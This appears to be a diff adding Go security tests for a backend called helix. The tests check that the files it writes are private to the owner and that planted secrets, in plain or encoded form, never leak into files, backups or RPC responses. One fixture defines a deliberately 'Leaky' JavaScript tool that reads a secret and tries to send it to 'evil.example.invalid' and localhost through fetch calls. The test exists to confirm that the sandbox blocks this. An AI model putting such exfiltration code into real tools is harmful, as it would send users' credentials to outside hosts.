@@ -1,0 +1,320 @@
+package backend
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/uuid"
+
+	"helix/backend/permission"
+	"helix/backend/tools"
+)
+
+// TestFilesAreForTheUserAlone does everything that leaves files and looks at the mode of
+// each; a folder that others could enter before is closed.
+func TestFilesAreForTheUserAlone(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	for _, d := range []string{"data", "state", "run", "cache", "config"} {
+		if err := os.Mkdir(filepath.Join(dir, d), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chmod(filepath.Join(dir, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	a := &attacked{dir: dir}
+	o := testOptions(dir)
+	o.Flags["log.level"] = "debug"
+	o.Logger, o.LogTo = nil, slog.LevelError+100
+	a.Backend = startWith(t, o)
+	var err error
+	if a.root, _, err = a.Root.Token(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	a.leaveTraces(t)
+	a.log.Info("a line of the log")
+	seen := map[string]bool{}
+	err = filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		info, err := d.Info()
+		if err != nil {
+			return err
+		}
+		seen[filepath.Base(path)] = true
+		if path != dir && info.Mode().Perm()&0o077 != 0 {
+			t.Errorf("%s has mode %o", strings.TrimPrefix(path, dir), info.Mode().Perm())
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"helix.db", "helix.db-wal", "helix.lock", "helix.log", "endpoint.json", "config.toml", "plain.zip", "locked.zip", "audit.jsonl", "export", "kept.txt", "audit-head"} {
+		if !seen[name] {
+			t.Errorf("%s was not written, so its mode was not checked", name)
+		}
+	}
+}
+
+// planted are values that must not be found anywhere but where they are kept.
+type planted struct{ stored, secret, recovery, passphrase, token, ticket string }
+
+// leaveTraces does what writes files, with planted secrets, below a.dir/out and in the
+// data folder.
+func (a *attacked) leaveTraces(t *testing.T) planted {
+	t.Helper()
+	ctx := a.as(a.LocalUser())
+	p := planted{stored: "stored+value/7f3a91==", secret: "tool&secret=55d1c0ffee", passphrase: "correct-horse-battery-9"}
+	must := func(what string, err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+	}
+	out := filepath.Join(a.dir, "out")
+	must("folder", os.Mkdir(out, 0o700))
+	call := func(method string, params map[string]any) json.RawMessage {
+		t.Helper()
+		var r json.RawMessage
+		must(method, a.call(method, params, &r))
+		return r
+	}
+	call("secrets.set", map[string]any{"name": "provider.key", "value": p.stored})
+	tool := a.tool(t, tools.CreateParams{Name: "Leaky", SandboxProfile: "permissive", Capabilities: []string{"secret(KEY)", "state(64KiB)", "network:https(api.example.invalid)"},
+		Code: `const k = await helix.secret("KEY");
+			console.log("the key is " + k, btoa(k), [...k].join(" "));
+			await helix.state.set("k", k); await helix.fs.writeText("kept.txt", k);
+			let why = "";
+			for (const url of ["https://api.example.invalid/?k=" + k, "https://evil.example.invalid/?k=" + k, "http://localhost:1/?k=" + k])
+				try { await helix.fetch(url, {headers: {authorization: k}, method: "POST", body: k, timeoutMs: 300}); } catch (e) { why += e.message + " "; }
+			throw new Error("failed with " + k + " " + why);`})
+	call("tools.secret_set", map[string]any{"name": "KEY", "value": p.secret, "hosts": []string{"api.example.invalid"}, "toolIds": []string{}})
+	a.allowAll(t, tool)
+	if r := a.run(t, tool, nil); r.Success || strings.Contains(r.Error, p.secret) {
+		t.Fatalf("%+v", r)
+	}
+	p.token = field(t, call("tokens.create", map[string]any{"name": "other", "scopes": []string{"read"}}), "token")
+	_, p.ticket, _ = strings.Cut(field(t, call("sessions.ticket", map[string]any{}), "url"), "#ticket=")
+	if b, err := a.Keys.ExportRecovery(ctx, struct{}{}); err != nil {
+		t.Fatal(err)
+	} else {
+		p.recovery = field(t, raw(t, b), "code")
+	}
+	call("config.set", map[string]any{"values": map[string]any{"gateway.tickets_per_minute": 9}})
+	call("tools.share", map[string]any{"toolId": tool, "access": "link"})
+	must("bundle", os.WriteFile(filepath.Join(out, "bundle.json"), call("tools.export", map[string]any{"toolIds": []any{tool}, "includeHistory": true}), 0o600))
+	call("storage.backup", map[string]any{"path": filepath.Join(out, "plain.zip")})
+	call("storage.backup", map[string]any{"path": filepath.Join(out, "locked.zip"), "passphrase": p.passphrase})
+	call("storage.backup", map[string]any{})
+	call("storage.export", map[string]any{"dir": filepath.Join(out, "export")})
+	call("audit.export", map[string]any{"path": filepath.Join(out, "audit.jsonl")})
+	var r json.RawMessage
+	for method, params := range map[string]map[string]any{
+		"storage.restore": {"path": filepath.Join(out, "locked.zip"), "passphrase": p.passphrase + "x", "dryRun": true},
+		"secrets.set":     {"name": "provider.key", "value": p.stored, "extra": p.secret},
+		"connect":         {"minProtocol": 1, "maxProtocol": 1, "auth": map[string]any{"token": p.token, "password": p.passphrase}},
+	} {
+		err := a.call(method, params, &r)
+		for _, s := range []string{p.stored, p.secret, p.passphrase, p.token} {
+			if err != nil && strings.Contains(err.Error(), s) {
+				t.Errorf("%s shows a secret: %v", method, err)
+			}
+		}
+	}
+	return p
+}
+
+// TestSecretsStayWhereTheyAreKept looks for planted secrets in everything that was written
+// and in everything that the methods tell.
+func TestSecretsStayWhereTheyAreKept(t *testing.T) {
+	t.Parallel()
+	a := attack(t)
+	p := a.leaveTraces(t)
+	secrets := map[string]string{
+		"stored secret": p.stored, "tool secret": p.secret, "recovery code": p.recovery, "recovery code without dashes": strings.ReplaceAll(p.recovery, "-", ""),
+		"passphrase": p.passphrase, "token": p.token, "ticket": p.ticket, "root token": a.root,
+	}
+	look := func(where string, content []byte) {
+		for name, s := range secrets {
+			for form, text := range map[string]string{
+				"": s, " in base64": base64.StdEncoding.EncodeToString([]byte(s)), " in hex": hex.EncodeToString([]byte(s)), " in a URL": url.QueryEscape(s),
+				" in JSON": strings.Trim(string(raw(t, s)), `"`), " as bytes of hex": string(unhex(s)),
+			} {
+				if len(text) >= 8 && bytes.Contains(content, []byte(text)) {
+					t.Errorf("%s: the %s%s", where, name, form)
+				}
+			}
+		}
+	}
+	walk := func() {
+		err := filepath.WalkDir(a.dir, func(path string, d os.DirEntry, err error) error {
+			if err != nil || d.IsDir() {
+				return err
+			}
+			where := strings.TrimPrefix(path, a.dir)
+			switch d.Name() {
+			case "gateway-token", "root-key", "root.key", "helix.key": // where it is kept when there is no keyring
+				return nil
+			}
+			b, err := os.ReadFile(path)
+			if err != nil {
+				return err
+			}
+			look(where, b)
+			if strings.HasSuffix(path, ".zip") {
+				z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+				if err != nil {
+					return err
+				}
+				for _, f := range z.File {
+					r, err := f.Open()
+					if err != nil {
+						return err
+					}
+					content, err := io.ReadAll(r)
+					if err := errors.Join(err, r.Close()); err != nil {
+						return err
+					}
+					look(where+"!"+f.Name, content)
+				}
+			}
+			return nil
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	walk()
+	for _, m := range []struct {
+		name   string
+		params map[string]any
+	}{
+		{"audit.list", map[string]any{"limit": 100}}, {"tools.usage", map[string]any{}}, {"tools.secrets", map[string]any{}}, {"secrets.list", map[string]any{}},
+		{"tokens.list", map[string]any{}}, {"sessions.list", map[string]any{}}, {"config.get", map[string]any{}}, {"system.status", map[string]any{}},
+		{"storage.status", map[string]any{}}, {"keys.status", map[string]any{}}, {"approvals.list", map[string]any{"status": "approved"}}, {"permissions.list", map[string]any{}},
+		{"tools.list", map[string]any{}}, {"services.list", map[string]any{}}, {"storage.backups", map[string]any{}},
+	} {
+		var r json.RawMessage
+		if err := a.call(m.name, m.params, &r); err != nil {
+			t.Errorf("%s: %v", m.name, err)
+		}
+		look(m.name, r)
+	}
+	if err := a.Close(); err != nil { // the WAL goes into the database, the log ends
+		t.Fatal(err)
+	}
+	walk()
+}
+
+// unhex are the bytes that a text of hex digits stands for; none for another text.
+func unhex(s string) []byte {
+	b, err := hex.DecodeString(s)
+	if err != nil {
+		return nil
+	}
+	return b
+}
+
+func field(t *testing.T, obj json.RawMessage, name string) string {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal(obj, &m); err != nil {
+		t.Fatal(err)
+	}
+	s, ok := m[name].(string)
+	if !ok || s == "" {
+		t.Fatalf("no %s in %.200s", name, obj)
+	}
+	return s
+}
+
+// call makes one call with the root token over POST /rpc. The error holds the whole answer.
+func (a *attacked) call(method string, params map[string]any, result any) error {
+	if a.root == "" {
+		return errors.New("no root token")
+	}
+	body, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
+	if err != nil {
+		return err
+	}
+	req, err := http.NewRequest(http.MethodPost, a.Gateway.URL()+"/rpc", bytes.NewReader(body)) //nolint:noctx // a test's short call
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Authorization", "Bearer "+a.root)
+	req.Close = true
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	answer, err := io.ReadAll(resp.Body)
+	if err != nil {
+		return err
+	}
+	var r struct{ Result, Error json.RawMessage }
+	if err := json.Unmarshal(answer, &r); err != nil || r.Error != nil {
+		return fmt.Errorf("%d %s", resp.StatusCode, answer)
+	}
+	return json.Unmarshal(r.Result, result)
+}
+
+// tool makes a tool and returns its id.
+func (a *attacked) tool(t *testing.T, p tools.CreateParams) uuid.UUID {
+	t.Helper()
+	r, err := a.Tools.Create(a.as(a.LocalUser()), p)
+	if err != nil {
+		t.Fatalf("create %s: %v %+v", p.Name, err, r.Validation)
+	}
+	return r.Tool.ID
+}
+
+func (a *attacked) run(t *testing.T, tool uuid.UUID, params any) tools.ExecuteResult {
+	t.Helper()
+	p := tools.ExecuteParams{ToolID: &tool}
+	if params != nil {
+		p.Params = raw(t, params)
+	}
+	r, err := a.Tools.Execute(a.as(a.LocalUser()), p)
+	if err != nil {
+		t.Fatalf("run: %v", err)
+	}
+	return r
+}
+
+// allowAll runs a tool until it asks for nothing new, and grants what it asks for.
+func (a *attacked) allowAll(t *testing.T, tool uuid.UUID) {
+	t.Helper()
+	ctx := a.as(a.LocalUser())
+	for range 10 {
+		_, _ = a.Tools.Execute(ctx, tools.ExecuteParams{ToolID: &tool}) // what it asks for is what counts
+		l, err := a.Permission.ListApprovals(ctx, permission.ListApprovalsParams{SubjectID: tool.String()})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(l.Approvals) == 0 {
+			return
+		}
+		for _, q := range l.Approvals {
+			if _, err := a.Permission.AnswerApproval(ctx, permission.AnswerParams{ID: q.ID, Decision: "approve", DefinitionHash: q.DefinitionHash, Scope: "always"}); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+}
